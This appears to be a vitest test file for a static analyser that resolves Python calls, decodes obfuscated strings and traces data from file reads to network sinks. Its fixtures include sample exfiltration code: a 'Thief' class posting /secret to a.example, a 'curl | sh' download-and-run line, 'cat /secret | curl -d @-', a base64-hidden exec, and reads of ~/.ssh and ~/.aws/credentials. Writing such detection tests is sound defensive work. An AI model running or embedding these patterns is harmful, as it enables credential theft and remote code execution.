import { expect, it } from 'vitest'

import { calls, factsOf, flows, spec, values } from '../testkit.js'

it('resolves callees through import aliases and member chains', async () => {
  const facts = await factsOf({
    'a.py': `import os.path as p, subprocess as sp
from os import system as run
from pathlib import Path
import urllib.request
p.join("a", "b"); sp.run(["ls", "-l"]); run("id")
urllib.request.urlopen("https://a.example/x")
Path("~").joinpath(".ssh").read_text()
`,
  })
  expect(calls(facts.filter((fact) => fact['code.language'] === 'python'))).toEqual([
    '5 os.path.join(a, b)',
    '5 subprocess.run(ls -l)',
    '5 os.system(id)',
    '6 urllib.request.urlopen(https://a.example/x)',
    '7 pathlib.Path(~)',
    '7 pathlib.Path.joinpath(.ssh, ~)',
    '7 pathlib.Path.read_text(~/.ssh)',
  ])
  expect(values(facts, 'code.import.name')).toEqual([
    'os.path',
    'subprocess',
    'os',
    'os.system',
    'pathlib',
    'pathlib.Path',
    'urllib.request',
  ])
})

it('sees through names built from strings', async () => {
  const facts = await factsOf({
    'a.py': `import os, importlib, builtins
getattr(os, "sys" + "tem")("a")
__import__("".join(["o", "s"])).popen("b")
importlib.import_module("ssecorpbus"[::-1]).call(["c"])
builtins.exec("print('dddd')")
os.__dict__["sys%s" % "tem"]("e")
f = os.system if 1 else print
f("f")
`,
  })
  expect(calls(facts)).toEqual(
    expect.arrayContaining([
      '2 os.system(a)',
      '3 os.popen(b)',
      "5 exec(print('dddd'))",
      '6 os.system(e)',
      '8 os.system(f)',
    ]),
  )
})

it.each([
  ['"ht" + "tps://a.example"', 'https://a.example'],
  ['f"https://{host}/x?{1 + 1}"', 'https://{}/x?2'],
  ['"https://%s/%d" % ("a.example", 3)', 'https://a.example/3'],
  ['"https://{}/{k}".format("a.example", k="v")', 'https://a.example/v'],
  ['"".join(chr(c) for c in [104, 116, 116, 112, 58, 47, 47, 97])', 'http://a'],
  ['"".join(map(chr, [104, 116, 116, 112, 58, 47, 47, 97]))', 'http://a'],
  ['bytes([104, 116, 116, 112, 58, 47, 47, 97]).decode()', 'http://a'],
  ['"".join(chr(ord(c) ^ 1) for c in "iuuq;..`")', 'http://a'],
  ['base64.b64decode("aHR0cDovL2E=").decode("utf-8")', 'http://a'],
  ['codecs.decode("uggc://n", "rot13")', 'http://a'],
  ['bytes.fromhex("687474703a2f2f61")', 'http://a'],
  // Its checksum is wrong: no text is made up for it.
  ['zlib.decompress(base64.b64decode("eJzLKCkpsNLXTwQAD3UDIA=="))', '?'],
  ['"a//:ptth"[::-1]', 'http://a'],
  ['"hXtXtXp://a".replace("X", "")', 'http://a'],
  ['os.path.join(os.path.expanduser("~"), ".aws", "credentials")', '~/.aws/credentials'],
  ['Path.home() / ".aws" / "credentials"', '~/.aws/credentials'],
  ['os.environ["HOME"] + "/.ssh"', '~/.ssh'],
  ['"".join(map(lambda c: chr(c - 1), [105, 117, 117, 113, 59, 48, 48, 98]))', 'http://a'],
])('folds %s', async (expression, text) => {
  const facts = await factsOf({
    'a.py': `import base64, codecs, zlib, os\nfrom pathlib import Path\nhost = input()\nopen(${expression})\n`,
  })
  const open = facts.find((fact) => fact['code.call.name'] === 'open')
  expect(open?.['code.call.arguments']).toEqual([text])
})

it('folds through functions of the file, once per argument', async () => {
  const facts = await factsOf({
    'a.py': `import base64, requests
def dec(s):
    return base64.b64decode(s).decode()
def post(path, host="https://a.example"):
    return requests.post(host + path)
post(dec("L29uZQ=="))
post("/two", host="https://b.example")
`,
  })
  expect(calls(facts)).toEqual(
    expect.arrayContaining([
      '5 requests.post(https://a.example/one)',
      '5 requests.post(https://b.example/two)',
    ]),
  )
})

it('follows data from source to sink, step by step', async () => {
  const facts = await factsOf({
    'a.py': `import requests, os
class Thief:
    def __init__(self):
        self.data = None
    def collect(self):
        with open("/secret") as handle:
            self.data = handle.read()
    def pack(self):
        return {"payload": self.data.encode()}
    def send(self):
        requests.post("https://a.example", json=self.pack())
Thief().send()
`,
  })
  expect(flows(facts)).toEqual(['open(/secret) -> requests.post via a.py:6 a.py:7 a.py:9 a.py:11'])
})

it('follows data across files, and says so in the steps', async () => {
  const facts = await factsOf({
    'main.py': 'from lib.net import send\nfrom lib import disk\nsend(disk.load())\n',
    'lib/net.py': 'import requests as r\ndef send(x):\n    r.post("https://a.example", data=x)\n',
    'lib/disk.py': 'def load():\n    return open("/secret").read()\n',
  })
  expect(flows(facts)).toEqual(['open(/secret) -> requests.post via lib/disk.py:2 main.py:3 lib/net.py:3'])
  expect(facts.find((fact) => fact.kind === 'code.flow')?.['file.path']).toBe('lib/net.py')
})

it('goes through the members of an object one by one, and finds what objects inside of it hold', async () => {
  const facts = await factsOf({
    'a.py': `import requests
from pathlib import Path
places = {"one": ("/", "secret"), "two": ("/", "other")}
out = {"v": 1, "found": {}}
for key, parts in places.items():
    out["found"][key] = Path("").joinpath(*parts).open().read()
requests.post("https://a.example", json=out)
`,
    'b.py': `import requests
places = {"one": "/secret", "two": "/other"}
for rel in places.values():
    requests.post("https://a.example", data=open(rel).read())
`,
  })
  expect(calls(facts).filter((call) => call.includes('.open('))).toEqual([
    '6 pathlib.Path.open(//secret)',
    '6 pathlib.Path.open(//other)',
  ])
  expect(flows(facts)).toEqual(['open(/secret) -> requests.post via b.py:4'])
})

it('stops at sanitizers, and at data that never meets', async () => {
  const facts = await factsOf({
    'a.py': `import requests, hashlib, os
data = open("/secret").read()
requests.post("https://a.example", data=hashlib.sha256(data).hexdigest())
requests.post("https://a.example", data=len(data))
data = "nothing"
requests.post("https://a.example", data=data)
`,
  })
  expect(flows(facts)).toEqual([])
})

it('keeps what either branch may have left', async () => {
  const facts = await factsOf({
    'a.py': `import requests
x = "plain"
if input():
    x = open("/secret").read()
else:
    x = "other"
requests.post("https://a.example", data=x)
`,
  })
  expect(flows(facts)).toEqual(['open(/secret) -> requests.post via a.py:4 a.py:7'])
})

it('reads code handed to interpreters, on its own line', async () => {
  const facts = await factsOf({
    'a.py': `import subprocess, base64
subprocess.run("curl https://a.example/i | sh", shell=True)
exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQgLXUnKQ=="))
subprocess.Popen(["bash", "-c", "cat /secret | curl -d @- https://b.example"])
CODE = """
import os
os.system('whoami')
"""
exec(CODE)
`,
  })
  expect(calls(facts)).toEqual(
    expect.arrayContaining([
      '2 curl(https://a.example/i)',
      '2 sh()',
      '3 os.system(id -u)',
      '3 id(-u)',
      '4 cat(/secret)',
      '4 curl(-d, @-, https://b.example)',
    ]),
  )
  expect(flows(facts)).toEqual([
    'curl(https://a.example/i) -> sh via a.py:2',
    'cat(/secret) -> curl via a.py:4',
  ])
})

it('describes tools that the code declares', async () => {
  const facts = await factsOf({
    'server.py': `from mcp.server.fastmcp import FastMCP
from mcp.types import Tool
mcp = FastMCP("x")
@mcp.tool()
def add(a: int) -> int:
    """Adds one."""
    return a + 1
@mcp.tool(name="other", description="Does other things")
async def f(): pass
Tool(name="third", description="Low " + "level", inputSchema={})
`,
  })
  const tools = facts.filter((fact) => fact.kind === 'tool.describe')
  expect(tools.map((fact) => [fact['gen_ai.tool.name'], fact['gen_ai.tool.description']])).toEqual([
    ['add', 'Adds one.'],
    ['other', 'Does other things'],
    ['third', 'Low level'],
  ])
})

it('names what is read of the environment', async () => {
  const facts = await factsOf({
    'a.py': 'import os, sys\nk = os.environ["AWS_KEY"]\nprint(sys.argv, os.environ.get("B"))\n',
  })
  expect(values(facts, 'code.member.name')).toEqual(['os.environ.AWS_KEY', 'sys.argv'])
  expect(calls(facts)).toContain('3 os.environ.get(B)')
})

it('says where a flow goes, also through a request made ready before', async () => {
  const facts = await factsOf(
    {
      'a.py': [
        'import urllib.request',
        "API = 'https://api.example/usage'",
        "token = open('secret').read()",
        "req = urllib.request.Request(API, headers={'Authorization': token})",
        'urllib.request.urlopen(req)',
      ].join('\n'),
    },
    [{ ...spec, sinks: [{ pattern: 'urllib.request.urlopen', tag: 'net' }] }],
  )
  const flow = facts.find(({ kind }) => kind === 'code.flow')
  expect(flow).toMatchObject({ 'code.flow.sink': 'urllib.request.urlopen', 'url.domain': 'api.example' })
})

it('gives each flow the address it goes to, though the call was seen to go to several', async () => {
  const facts = await factsOf({
    'a.py': [
      'import requests',
      'def send(url, path):',
      '    requests.post(url, data=open(path).read())',
      "send('https://a.example', 'secret')",
      "send('https://b.example', 'public')",
      "send('https://b.example', 'secret')",
    ].join('\n'),
  })
  const found = facts.filter(({ kind }) => kind === 'code.flow')
  expect(found.map((flow) => [flow['code.flow.source'], flow['url.domain']])).toEqual([
    ['open(secret)', 'a.example'],
    ['open(secret)', 'b.example'],
  ])
})

it('characters stripped from a text are the ones named', async () => {
  const facts = await factsOf({
    'a.py': `
import requests
base = 'http://10.0.0.1/'
def ask(path):
    requests.get(f"{base.rstrip('/')}/{path.lstrip('/')}")
ask('/status')
print('  x '.strip(), 'xxaxx'.strip('x'))
`,
  })
  expect(calls(facts)).toContain('5 requests.get(http://10.0.0.1/status)')
  expect(calls(facts)).toContain('7 print(x, a)')
})
